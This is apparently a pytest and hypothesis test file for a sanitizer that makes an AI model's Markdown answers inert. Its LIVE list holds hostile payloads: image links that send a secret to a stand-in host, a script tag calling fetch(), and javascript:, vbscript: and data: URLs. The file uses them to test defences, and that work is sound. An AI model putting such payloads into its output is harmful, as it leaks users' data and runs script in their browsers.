"""Answers of a model as Markdown that fetches and runs nothing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_client.inert_markdown import inert_markdown, live_parts

LIVE = (
    "![x](http://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: http://evil.example/",
    "[![x](http://evil.example/)](https://a.example/)",
    "a <img src=http://evil.example/> b",
    "<script>fetch('http://evil.example/')</script>",
    "<!-- a -->",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: vbscript:a",
    "\\![x](http://evil.example/) ![y](http://evil.example/)",
    "\\<b> <img src=x>",
    "> - ![x](http://evil.example/)",
    "<!--![x](http://evil.example/)",
    "<!--[x](javascript:a)",
    "`a` ![x](http://evil.example/) ``` <img src=x>",
)
PIECES = (
    *("!", "[", "]", "(", ")", "<", ">", "`", "\\", "\n", "    ", "x", "![x]", "](", "]:", "&lt;"),
    *("<img src=x>", "javascript:a", "http://e.example", "```\n", "> ", "- ", "<!--", "-->", "*"),
)


@pytest.mark.parametrize("text", LIVE)
def test_nothing_is_fetched_or_run(text: str) -> None:
    assert live_parts(text)
    assert live_parts(inert_markdown(text)) == set()


@pytest.mark.parametrize(
    "text",
    [
        "The river is the Serrin [1]. See [its page](https://a.example/x_(y)).",
        "Is 3 < 4? Yes, and a <b.",
        "Use `![alt](url)` for pictures and `<img>` in HTML.",
        "```html\n<img src='x'>\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "<https://a.example/>",
        "[mail](mailto:a@a.example), [there](/x), [part](#x)",
        "",
    ],
)
def test_an_answer_without_them_is_left_as_it_is(text: str) -> None:
    assert inert_markdown(text) == text


def test_a_flood_of_pictures_is_not_parsed() -> None:
    assert "![" not in inert_markdown("![" * 50_000)


@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_whatever_a_model_writes_nothing_lives(text: str) -> None:
    assert live_parts(inert_markdown(text)) == set()
